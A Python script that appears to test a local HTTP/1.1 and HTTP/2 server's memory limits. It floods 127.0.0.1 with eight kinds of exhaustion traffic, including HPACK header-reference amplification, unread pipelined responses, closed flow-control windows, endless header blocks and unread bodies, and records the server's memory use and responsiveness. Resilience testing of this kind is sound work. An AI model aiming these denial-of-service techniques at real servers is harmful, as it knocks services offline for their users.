#!/usr/bin/env python3
"""Clients that make a server keep as much memory as they can: exhaust.py PID PORT COUNT [KIND...]. The server has the usual limits and the
files / and /large. For each kind of attack this many clients attack at the same time, until the server has nothing more to say to them. Meanwhile,
and when they have left, another client asks for /.
Prints a line for each kind: its name, the status of the answer meanwhile ("none" if there was none within half a second), that afterwards, and
the kilobytes of the process with this number at most: first those that `ulimit -d` counts, then those that it has used.
"""
import select
import socket
import struct
import sys
import time

HEAD_BYTES = 51200
STREAMS = 128


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


DATA, HEADERS, SETTINGS, WINDOW_UPDATE = 0, 1, 4, 8
END_STREAM, END_HEADERS = 1, 4


def number(prefix, bits, value):
    most = (1 << bits) - 1
    if value < most:
        return bytes([prefix | value])
    out, value = [prefix | most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def text(value):
    return number(0, 7, len(value)) + value


def fields(method, path, more=b""):
    """An HPACK block of static names: :method, :scheme, :path, :authority."""
    return b"\x02" + text(method) + b"\x86" + b"\x04" + text(path) + b"\x01" + text(b"localhost") + more


def opening(window):
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window))


# A field that enters HPACK's table, and the number of times that a head refers to it. Each reference takes a byte.
BIG = b"\x40" + text(b"x") + text(b"y" * 3900)
REFERENCES = b"\xbe" * (HEAD_BYTES // 3950)


def http1_heads():
    lines = b"".join(b"X-%d: %s\r\n" % (i, b"y" * 3900) for i in range(HEAD_BYTES // 3950))
    return b"GET / HTTP/1.1\r\nHost: localhost\r\n" + lines


def http1_files():
    """Requests one behind the other, for files that nobody reads."""
    return b"GET /large HTTP/1.1\r\nHost: localhost\r\n\r\n" * 500


def http2_large_heads():
    """Requests whose heads are as large as they may be, and that cannot be answered."""
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, fields(b"GET", b"/large", BIG))
    others = fields(b"GET", b"/large", REFERENCES)
    return opening(0) + first + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, others) for i in range(1, STREAMS))


def http2_small_fields():
    block = fields(b"GET", b"/large", b"\x40" + text(b"x") + text(b"y"))
    many = fields(b"GET", b"/large", b"\xbe" * 120)
    return opening(0) + frame(HEADERS, 5, 1, block) + b"".join(frame(HEADERS, 5, 2 * i + 1, many) for i in range(1, STREAMS))


def http2_open_heads():
    """A head that does not end."""
    block = fields(b"GET", b"/large", BIG + REFERENCES)
    return opening(0) + frame(HEADERS, END_STREAM, 1, block)


def http2_files():
    """Files for which the windows are closed."""
    block = fields(b"GET", b"/large")
    return opening(0) + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block) for i in range(STREAMS))


def http2_unread_files():
    """Files for which the windows are open, and which nobody reads. Some of the requests have large heads."""
    small, large = fields(b"GET", b"/large"), fields(b"GET", b"/large", REFERENCES)
    requests = [fields(b"GET", b"/large", BIG)] + [large] * 12 + [small] * (STREAMS - 13)
    return (opening(2**31 - 1) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 65536))
            + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block) for i, block in enumerate(requests)))


def http2_bodies():
    """Bodies that the server does not read, as far as the first windows go."""
    block = fields(b"POST", b"/")
    requests = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(STREAMS))
    return opening(65535) + requests + b"".join(frame(DATA, 0, 2 * i + 1, b"z" * 16384) for i in range(64))


ATTACKS = [http1_heads, http1_files, http2_large_heads, http2_small_fields, http2_open_heads, http2_files, http2_unread_files, http2_bodies]
KINDS = {attack.__name__: attack for attack in ATTACKS}


def status_of_honest(port, seconds):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=seconds) as client:
            client.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            return client.recv(1000).split(b" ")[1].decode()
    except (OSError, IndexError):
        return "none"


def kilobytes_of(pid):
    try:
        with open(f"/proc/{pid}/status", encoding="ascii") as lines:
            found = dict(line.split(":", 1) for line in lines)
        return int(found["VmData"].split()[0]), int(found["RssAnon"].split()[0])
    except (FileNotFoundError, ProcessLookupError, KeyError):  # it has ended
        return 0, 0


def attack(pid, port, count, kind):
    """Sends until the server takes no more and says no more for a while."""
    bytes_of = KINDS[kind]()
    left = {}
    for _ in range(count):
        client = socket.socket()
        client.setblocking(False)
        client.connect_ex(("127.0.0.1", port))
        left[client] = memoryview(bytes_of)
    clients = set(left)
    reads = kind.startswith("http2") and kind != "http2_unread_files"
    quiet_since = time.monotonic()
    most = (0, 0)
    end = quiet_since + 8
    while time.monotonic() - quiet_since < 0.5 and time.monotonic() < end:
        readable, writable, _ = select.select(clients if reads else [], [c for c in clients if left[c]], [], 0.1)
        moved = False
        for client in writable:
            try:
                sent = client.send(left[client][:65536])
                left[client] = left[client][sent:]
                moved = True
            except BlockingIOError:
                pass
            except OSError:
                clients.discard(client)
        for client in readable:
            try:
                if client.recv(65536):
                    moved = True
                else:
                    clients.discard(client)
            except OSError:
                clients.discard(client)
        if moved:
            quiet_since = time.monotonic()
        most = max(most, kilobytes_of(pid))
    meanwhile = status_of_honest(port, 0.5)
    most = max(most, kilobytes_of(pid))
    for client in left:
        client.close()
    return meanwhile, most


def main():
    pid, port, count = map(int, sys.argv[1:4])
    for kind in sys.argv[4:] or KINDS:
        meanwhile, most = attack(pid, port, count, kind)
        after = "none"
        for _ in range(20):
            after = status_of_honest(port, 5)
            if after == "200":
                break
            time.sleep(0.1)
        print(kind, meanwhile, after, *most, flush=True)


main()
